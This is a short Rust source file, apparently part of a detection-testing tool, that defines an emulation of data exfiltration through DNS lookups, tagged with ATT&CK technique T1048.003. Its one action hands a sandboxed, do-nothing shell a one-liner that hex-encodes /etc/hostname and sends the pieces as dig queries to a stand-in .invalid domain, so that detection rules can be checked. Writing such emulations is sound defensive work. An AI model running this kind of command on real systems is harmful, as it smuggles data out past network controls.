//! Data leaves as names, given to a shell that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "lookup-exfiltration",
    title: "Data packed into name lookups",
    technique: "T1048.003",
    technique_v18: None,
    needs: &[],
    rules: &["Data packed into name lookups by a shell"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend("sh", &["-c", "for b in $(xxd -p /etc/hostname); do dig +short $b.x.invalid; done"])
}
